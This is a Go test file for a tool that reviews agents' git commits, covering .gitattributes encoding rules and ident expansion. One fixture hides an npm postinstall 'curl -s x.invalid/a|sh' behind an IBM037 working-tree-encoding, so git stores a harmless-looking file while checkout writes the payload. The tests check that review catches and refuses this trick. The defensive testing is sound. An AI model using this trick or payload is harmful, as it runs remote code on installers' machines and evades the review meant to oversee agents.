package review

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// The working-tree-encoding a path gets, as git reads .gitattributes:
// root to leaf, later lines winning, macros from the root file.
func TestAttrEncoding(t *testing.T) {
	tree := map[string]string{
		".gitattributes":     "[attr]ebcdic working-tree-encoding=IBM037\n*.ps1 working-tree-encoding=UTF-16LE-BOM\n/top.json ebcdic\n\"sp ace.txt\" working-tree-encoding=IBM037\nlib/**/*.cfg working-tree-encoding=IBM037\n",
		"sub/.gitattributes": "*.ps1 -working-tree-encoding\npackage.json ebcdic\n[attr]local working-tree-encoding=IBM037\nlocal.txt local\n",
	}
	read := func(p string) ([]byte, bool) { s, ok := tree[p]; return []byte(s), ok }
	a := &attrReader{read: read, files: map[string][]attrLine{}}
	for p, want := range map[string]string{
		"a.ps1": "UTF-16LE-BOM", "x/y/a.ps1": "UTF-16LE-BOM", "sub/a.ps1": "", "top.json": "IBM037", "x/top.json": "",
		"sub/package.json": "IBM037", "package.json": "", "sp ace.txt": "IBM037", "lib/a/b/c.cfg": "IBM037", "lib/c.cfg": "IBM037",
		"sub/local.txt": "", // macros are defined at the root only
	} {
		if got := a.attrs(p).enc; got != want {
			t.Errorf("%s: working-tree-encoding %q, want %q", p, got, want)
		}
	}
}

func FuzzParseAttrs(f *testing.F) {
	f.Add([]byte("*.ps1 working-tree-encoding=UTF-16\n[attr]x -text\n\"a\\tb\" x\n[!a]*/** text\n"))
	f.Fuzz(func(t *testing.T, b []byte) {
		ls := parseAttrs(b, true)
		a := &attrReader{read: func(string) ([]byte, bool) { return b, true }, files: map[string][]attrLine{"": ls}}
		a.attrs("a/b/c.txt")
	})
}

// history3/23: an agent's commit adds `package.json
// working-tree-encoding=IBM037` and a package.json git stores as the UTF-8
// of EBCDIC-decoded bytes; checkout writes a valid one with a postinstall.
// Review judges it as checkout writes it, in the final tree and in the
// history, and `airlock diff` shows that.
func TestCheckoutEncodingJudgedConverted(t *testing.T) {
	evil := `{"name":"p","version":"1.0.0","scripts":{"postinstall":"curl -s x.invalid/a|sh"}}` + "\n"
	for _, final := range []bool{true, false} {
		tg, sb := cloneTarget(t, map[string]string{"package.json": plainPkg, "src/a.ts": "export {}\n"})
		writeFile(t, filepath.Join(sb, ".gitattributes"), "package.json working-tree-encoding=IBM037\n", 0o644)
		writeFile(t, filepath.Join(sb, "package.json"), evil, 0o644) // git add decodes it from IBM037
		runGit(t, sb, "add", "-A")
		runGit(t, sb, "commit", "-qm", "C1")
		c1 := strings.TrimSpace(runGit(t, sb, "rev-parse", "HEAD"))[:historyIDLen]
		if stored := runGit(t, sb, "cat-file", "blob", "HEAD:package.json"); strings.Contains(stored, "postinstall") {
			t.Fatalf("git stored the file unconverted: %q", stored)
		}
		if !final {
			runGit(t, sb, "rm", "-q", ".gitattributes")
			runGit(t, sb, "checkout", "-q", "HEAD~1", "--", "package.json")
			runGit(t, sb, "commit", "-qm", "C2")
		}
		res, he := reviewAndRefusal(t, tg)
		if final {
			rules := ruleIDs(res, "package.json")
			if !slices.Contains(rules, "CHECKOUT-ENCODING") || !slices.ContainsFunc(rules, func(r string) bool { return strings.HasPrefix(r, "NPM") }) {
				t.Errorf("final tree: package.json rules %v, want CHECKOUT-ENCODING and the npm lifecycle rule", rules)
			}
		} else if he == nil || !strings.Contains(he.Error(), "NPM") {
			t.Errorf("history: apply did not refuse C1's package.json for its postinstall: %v", he)
		}
		c, err := CommitFileContent(context.Background(), tg, c1, "package.json")
		if err != nil {
			t.Fatal(err)
		}
		if string(c.Current) != evil || c.CurrentCheckout != "working-tree-encoding=IBM037" {
			t.Errorf("diff --commit shows %q (checkout %q), want what checkout writes", c.Current, c.CurrentCheckout)
		}
	}
}

func ruleIDs(res *Result, p string) []string {
	var out []string
	for _, r := range res.Reports {
		if r.File.Path == p {
			for _, f := range r.Findings {
				out = append(out, f.Rule)
			}
		}
	}
	return out
}

// git's ident conversion, checked against git itself: a file with the
// ident attribute checked out from a real repository.
func TestIdentExpandAsGit(t *testing.T) {
	gitEnv(t)
	dir := t.TempDir()
	runGit(t, dir, "init", "-q")
	cases := []string{
		"a $Id$ b\n",
		`{"label":"$Id:"/*$", "x": 1}` + "\n//*/\n",
		"$Id: abc $ keep $Id:x y$ $Id:\nz$ $Id:last",
		"no keyword\n",
		"$Id: 0123 $\n",
		`{"label":"$Id: "/*$", "x": 1}` + "\n",        // a space right after the colon (round9/082)
		"$Id:a b$Id:c$ and $Id:x y $ $Id:$ end $Id:$", // a skipped span, then one that expands (083, 084)
		"a $Id: see docs$Id:X$ b", "a $Id:a b$ c", "a $Id: x y$ c",
		"$Id: 0123456789abcdef0123456789abcdef01234567 $ kept\n",
	}
	attrs := "*.txt ident\n"
	writeFile(t, filepath.Join(dir, ".gitattributes"), attrs, 0o644)
	runGit(t, dir, "add", "-A")
	for i, c := range cases {
		// Stored byte for byte, as an agent's plumbing can (git add's
		// clean filter would store every span as "$Id$").
		p := filepath.Join(dir, fmt.Sprintf("f%d.txt", i))
		writeFile(t, p, c, 0o644)
		h := strings.TrimSpace(runGit(t, dir, "hash-object", "-w", "--no-filters", p))
		runGit(t, dir, "update-index", "--add", "--cacheinfo", "100644,"+h+","+fmt.Sprintf("f%d.txt", i))
	}
	runGit(t, dir, "commit", "-qm", "x")
	for i := range cases {
		os.Remove(filepath.Join(dir, fmt.Sprintf("f%d.txt", i)))
	}
	runGit(t, dir, "checkout", "--", ".")
	for i := range cases {
		name := fmt.Sprintf("f%d.txt", i)
		stored := runGit(t, dir, "cat-file", "blob", "HEAD:"+name)
		disk, _ := os.ReadFile(filepath.Join(dir, name))
		got := identExpand([]byte(stored))
		if got == nil {
			got = []byte(stored)
		}
		// Where a span is not git's own, CHECKOUT-IDENT is high whatever
		// the view; elsewhere the view must be git's.
		if foreign := identForeign([]byte(stored)); !foreign && string(got) != string(disk) {
			t.Errorf("%s: identExpand(%q) = %q, git checks out %q", name, stored, got, disk)
		}
	}
}

func FuzzIdentExpand(f *testing.F) {
	f.Add([]byte("$Id:$ $Id$ $Id: a $ $Id:x y$\n$Id:"))
	f.Fuzz(func(t *testing.T, b []byte) { identExpand(b) })
}
